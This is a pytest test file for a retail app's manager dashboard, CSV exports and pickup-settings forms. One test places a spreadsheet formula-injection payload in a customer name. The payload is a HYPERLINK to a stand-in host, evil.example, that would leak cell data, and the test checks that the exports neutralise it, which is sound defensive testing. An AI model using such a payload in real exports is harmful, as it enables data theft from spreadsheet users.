"""The manager area: dashboard, figure lists, handover log, timeline, CSV exports and pickup settings."""

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from sqlalchemy import select

from omnistore.core.audit import AuditEvent
from omnistore.core.extensions import db
from omnistore.stores.models import Location


@pytest.fixture
def shop(make):
    made = make.shop(
        "HAM",
        "CPH",
        team={
            "manager": ("manager", "HAM", "Mia Manager"),
            "clerk": ("clerk", "HAM", "Jürgen Weiß"),
            "admin": "admin",
            "cph_manager": ("manager", "CPH", None, "cph@example.test"),
        },
        variants={"variant": dict(price_minor=8995)},
    )
    ham, cph, clerk, variant = made.ham, made.cph, made.clerk, made.variant
    now = datetime.now(UTC)
    collected = make.order(ham, [(variant, 1, ham)], status="collected", placed_at=now - timedelta(hours=5))
    make.pickup(
        collected,
        ready_at=now - timedelta(hours=4),
        collected_at=now - timedelta(hours=1),
        collected_by_staff_id=clerk.id,
        verification="code_name",
    )
    make.event(
        collected,
        "collected",
        now - timedelta(hours=1),
        staff=clerk,
        from_status="ready",
        to_status="collected",
        verification="code_name",
    )
    waiting = make.order(ham, [(variant, 1, ham)], status="ready", placed_at=now - timedelta(hours=3))
    make.pickup(waiting, ready_at=now - timedelta(hours=2), pickup_by=now + timedelta(days=6))
    elsewhere = make.order(cph, [(variant, 1, cph)], status="ready", placed_at=now - timedelta(hours=3))
    make.pickup(elsewhere, ready_at=now - timedelta(hours=2), pickup_by=now - timedelta(hours=1))
    return dict(ham=ham, cph=cph, collected=collected, waiting=waiting, elsewhere=elsewhere, clerk=clerk)


def test_clerks_may_not_open_the_manager_area(client, shop):
    client.login("clerk@example.test")
    for path in (
        "/manager/",
        "/manager/orders?figure=placed",
        "/manager/handovers",
        "/manager/settings",
        "/manager/figures.csv",
        f"/manager/orders/{shop['collected'].number}",
    ):
        assert client.get(path).status_code == 403, path


def test_a_manager_sees_the_own_store_and_follows_a_figure(client, shop):
    client.login("manager@example.test")
    page = client.get("/manager/?period=today").get_data(as_text=True)
    assert "Hamburg" in page and "Placed for pickup" in page
    assert "/manager/orders?period=today&amp;store=HAM&amp;figure=waiting" in page
    assert "Store league" not in page  # admins only
    listing = client.get("/manager/orders?period=today&store=HAM&figure=waiting").get_data(as_text=True)
    assert shop["waiting"].number in listing and shop["collected"].number not in listing
    assert shop["elsewhere"].number not in listing
    assert client.get("/manager/?store=CPH").status_code == 404
    assert client.get("/manager/?store=network").status_code == 403
    assert client.get(f"/manager/orders/{shop['elsewhere'].number}").status_code == 404
    assert client.get("/manager/orders?figure=nonsense").status_code == 404


def test_a_bad_custom_period_shows_a_message_and_the_last_week(client, shop):
    client.login("manager@example.test")
    response = client.get("/manager/?period=custom&from=2026-12-01&to=2026-11-01")
    assert response.status_code == 200
    assert "The period ends before it starts." in response.get_data(as_text=True)


@pytest.mark.parametrize(
    "query",
    ["period=custom&from=x&to=%00", "page=-5&figure=placed", "staff=abc&method=zzz", "period=zzz&store=" + "A" * 500],
)
def test_odd_input_never_breaks_the_pages(client, shop, query):
    client.login("admin@example.test")
    for path in ("/manager/", "/manager/orders", "/manager/handovers", "/manager/figures.csv"):
        assert client.get(f"{path}?{query}").status_code in (200, 400, 404), path


def test_admins_see_the_network_and_the_league(client, shop):
    client.login("admin@example.test")
    page = client.get("/manager/?store=network&period=7d&sort=overdue").get_data(as_text=True)
    assert "Store league, worst first" in page
    assert page.index("København") < page.index("Hamburg</a>")  # Copenhagen has the overdue order
    assert client.get("/manager/?store=CPH").status_code == 200
    listing = client.get("/manager/orders?store=network&period=today&figure=overdue").get_data(as_text=True)
    assert shop["elsewhere"].number in listing


def read_csv(response):
    raw = response.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM, so Excel reads umlauts right
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))


def test_csv_exports_open_in_excel(client, shop):
    client.login("manager@example.test")
    response = client.get("/manager/handovers.csv?period=7d")
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    rows = read_csv(response)
    assert rows[0] == ["Order", "Handed over", "By", "Verification", "Handover"]
    assert rows[1][0] == shop["collected"].number
    assert rows[1][2:] == ["Jürgen Weiß", "Short code and name", "Complete"]
    figures = dict(read_csv(client.get("/manager/figures.csv?period=7d"))[1:])
    assert figures["Collected"] == "1" and figures["Waiting now"] == "1"
    assert figures["Median ready to collected (h)"] == "3"
    orders = read_csv(client.get("/manager/orders.csv?period=7d&figure=placed"))
    assert sorted(row[0] for row in orders[1:]) == sorted([shop["collected"].number, shop["waiting"].number])


def test_german_csv_uses_decimal_commas(client, shop, make):
    from omnistore.stores.models import Staff

    db.session.execute(Staff.__table__.update().where(Staff.email == "manager@example.test").values(locale="de"))
    db.session.commit()
    client.login("manager@example.test")
    rows = read_csv(client.get("/manager/figures.csv?period=7d"))
    values = dict(rows[1:])
    assert any(key.startswith("Umsatz") or "Endless" in key or key for key in values)
    assert all("." not in value for value in values.values() if value)


@pytest.mark.parametrize(
    "locale, totals", [("en", {"39.95", "249.95", "1529.65"}), ("de", {"39,95", "249,95", "1529,65"})]
)
def test_csv_money_is_exact_to_the_cent_for_the_language(client, shop, make, locale, totals):
    from omnistore.stores.models import Staff

    ham, now = shop["ham"], datetime.now(UTC)
    for price, quantity in ((3995, 1), (24995, 1), (30593, 5)):
        make.order(ham, [(make.variant(price_minor=price), quantity, ham)], placed_at=now - timedelta(hours=2))
    db.session.execute(Staff.__table__.update().where(Staff.email == "manager@example.test").values(locale=locale))
    db.session.commit()
    client.login("manager@example.test")
    rows = read_csv(client.get("/manager/orders.csv?period=7d&figure=placed"))
    assert totals <= {row[-2] for row in rows[1:]} and {row[-1] for row in rows[1:]} == {"EUR"}


def test_a_formula_in_a_customer_name_is_neutralised_in_every_manager_export(client, shop, make):
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Anna")'
    customer = make.customer(first_name=evil, last_name="")
    ham = shop["ham"]
    make.order(ham, [(make.variant(), 1, ham)], customer=customer, placed_at=datetime.now(UTC) - timedelta(hours=1))
    client.login("admin@example.test")
    rows = read_csv(client.get("/manager/orders.csv?period=7d&figure=placed"))
    names = [row[2] for row in rows[1:] if row[2]]
    assert names and all(name.startswith("'=") for name in names)
    for path in ("figures.csv", "handovers.csv", "league.csv", "orders.csv?figure=placed"):
        for row in read_csv(client.get(f"/manager/{path}{'&' if '?' in path else '?'}period=7d")):
            assert not any(cell[:1] in ("=", "+", "@", "\t", "\r") for cell in row), (path, row)


def test_handover_log_filters_and_order_timeline(client, shop):
    client.login("manager@example.test")
    page = client.get("/manager/handovers?period=7d").get_data(as_text=True)
    assert shop["collected"].number in page and "Jürgen Weiß" in page
    assert shop["collected"].number not in client.get("/manager/handovers?period=7d&method=qr").get_data(as_text=True)
    staff_filtered = client.get(f"/manager/handovers?period=7d&staff={shop['clerk'].id}").get_data(as_text=True)
    assert shop["collected"].number in staff_filtered
    timeline = client.get(f"/manager/orders/{shop['collected'].number}").get_data(as_text=True)
    assert "Timeline" in timeline and "Jürgen Weiß" in timeline and "Short code and name" in timeline


def test_a_manager_changes_the_pickup_rules_of_the_own_store(client, shop):
    client.login("manager@example.test")
    assert client.get("/manager/settings").status_code == 200
    data = {
        "hold_days": "10",
        "reminder_day": "8",
        "pickup_enabled": "y",
        "mon": "09:00-12:00, 14:00-18:00",
        "tue": "9:00-18:00",
        "wed": "",
        "thu": "",
        "fri": "",
        "sat": "",
        "sun": "",
        "transfer_capacity": "20",
        "safety_stock": "2",
    }
    response = client.submit("/manager/settings", data)
    assert response.status_code == 303
    ham = db.session.get(Location, shop["ham"].id)
    db.session.refresh(ham)
    assert (ham.hold_days, ham.reminder_day, ham.transfer_capacity, ham.safety_stock) == (10, 8, 20, 2)
    assert ham.sourcing_enabled is False and ham.pickup_enabled is True
    assert ham.pickup_hours["mon"] == [["09:00", "12:00"], ["14:00", "18:00"]] and ham.pickup_hours["wed"] == []
    audit = db.session.scalar(
        select(AuditEvent).where(AuditEvent.action == "location.pickup_settings").order_by(AuditEvent.id)
    )
    assert audit.detail["changes"]["hold_days"] == [7, 10]


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("hold_days", "0", "Number must be between 1 and 60."),
        ("reminder_day", "7", "The reminder goes out before the last hold day"),
        ("mon", "9 to 5", "Give the hours as 09:30-20:00"),
        ("transfer_capacity", "-1", "Number must be between 0 and 10000."),
        ("hold_days", "\u0661\u0662", "Enter a whole number with the digits 0–9"),  # Arabic-Indic 12
        ("transfer_capacity", "1_0", "Enter a whole number with the digits 0–9"),
        ("safety_stock", "\uff13", "Enter a whole number with the digits 0–9"),  # a full-width 3
    ],
)
def test_bad_settings_are_refused_where_the_manager_looks(client, shop, field, value, message):
    client.login("manager@example.test")
    data = {
        "hold_days": "7",
        "reminder_day": "5",
        "pickup_enabled": "y",
        "transfer_capacity": "50",
        "safety_stock": "0",
        "sourcing_enabled": "y",
        field: value,
    }
    response = client.submit("/manager/settings", data)
    assert response.status_code == 422
    assert message in response.get_data(as_text=True)
    ham = db.session.get(Location, shop["ham"].id)
    db.session.refresh(ham)
    assert (ham.hold_days, ham.reminder_day, ham.transfer_capacity) == (7, 5, 50)
    assert (
        db.session.scalar(
            select(AuditEvent).where(AuditEvent.action == "location.pickup_settings").order_by(AuditEvent.id)
        )
        is None
    )


def test_only_admins_change_another_stores_settings(client, shop):
    client.login("manager@example.test")
    client.submit(
        "/manager/settings?store=CPH",
        {"hold_days": "3", "reminder_day": "1", "transfer_capacity": "1", "safety_stock": "0"},
    )
    cph = db.session.get(Location, shop["cph"].id)
    db.session.refresh(cph)
    assert cph.hold_days == 7  # the manager's form went to the own store instead: CPH untouched
    client.submit("/logout")
    client.login("admin@example.test")
    response = client.submit(
        "/manager/settings?store=CPH",
        {"hold_days": "3", "reminder_day": "1", "transfer_capacity": "1", "safety_stock": "0", "use_store_hours": "y"},
    )
    assert response.status_code == 303
    db.session.refresh(cph)
    assert cph.hold_days == 3 and cph.pickup_hours == {}


SETTINGS = {
    "hold_days": "7",
    "reminder_day": "5",
    "pickup_enabled": "y",
    "transfer_capacity": "50",
    "safety_stock": "0",
    "sourcing_enabled": "y",
    "use_store_hours": "y",
}


def test_a_manager_sets_the_store_s_pick_deadline_and_empties_it_for_the_network_s(client, shop, app):
    client.login("manager@example.test")
    page = client.get("/manager/settings").get_data(as_text=True)
    assert "Pick within (opening hours)" in page
    assert f"setting ({app.config['OMNISTORE_PICK_HOURS']:g} hours)" in page
    assert client.submit("/manager/settings", {**SETTINGS, "pick_hours": "2,5"}).status_code == 303
    ham = db.session.get(Location, shop["ham"].id)
    db.session.refresh(ham)
    assert ham.pick_hours == 2.5
    assert 'value="2.5"' in client.get("/manager/settings").get_data(as_text=True)
    audit = db.session.scalar(
        select(AuditEvent).where(AuditEvent.action == "location.pickup_settings").order_by(AuditEvent.id)
    )
    assert audit.detail["changes"]["pick_hours"] == [None, 2.5]
    assert client.submit("/manager/settings", {**SETTINGS, "pick_hours": ""}).status_code == 303
    db.session.refresh(ham)
    assert ham.pick_hours is None


@pytest.mark.parametrize("value", ["0", "200", "-2", "two", "1.2.3", "\uff12", "1e3", "٣"])
def test_a_bad_pick_deadline_is_refused_at_its_field(client, shop, value):
    client.login("manager@example.test")
    response = client.submit("/manager/settings", {**SETTINGS, "pick_hours": value})
    html = response.get_data(as_text=True)
    assert response.status_code == 422
    assert "Give a number of hours from 0.25 to 168" in html and 'id="pick_hours"' in html
    ham = db.session.get(Location, shop["ham"].id)
    db.session.refresh(ham)
    assert ham.pick_hours is None


def test_a_clerk_cannot_set_the_pick_deadline(client, shop):
    client.login(shop["clerk"].email)
    assert client.get("/manager/settings").status_code == 403
    assert client.submit("/manager/settings", {**SETTINGS, "pick_hours": "1"}).status_code == 403
    ham = db.session.get(Location, shop["ham"].id)
    db.session.refresh(ham)
    assert ham.pick_hours is None
